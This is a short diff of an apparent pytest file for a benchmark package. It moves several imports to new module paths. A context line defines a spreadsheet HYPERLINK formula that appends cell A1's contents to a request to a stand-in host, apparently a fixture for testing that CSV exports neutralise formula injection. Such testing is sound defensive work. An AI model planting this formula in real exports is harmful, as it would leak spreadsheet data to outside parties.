@@ -7,10 +7,10 @@ from pathlib import Path
 
 import pytest
 
-from vdmini_bench.ablation import ArmScore
-from vdmini_bench.ablation import write_scores as write_ablation
-from vdmini_bench.plan_scores import TABLE, PlanScore, write_plan_scores
-from vdmini_bench.views import csv_table
+from vdmini_bench.studies.ablation import ArmScore
+from vdmini_bench.studies.ablation import write_scores as write_ablation
+from vdmini_bench.studies.plan_scores import TABLE, PlanScore, write_plan_scores
+from vdmini_bench.system.tables import csv_table
 
 FORMULA = '=HYPERLINK("http://x/?"&A1)'
 
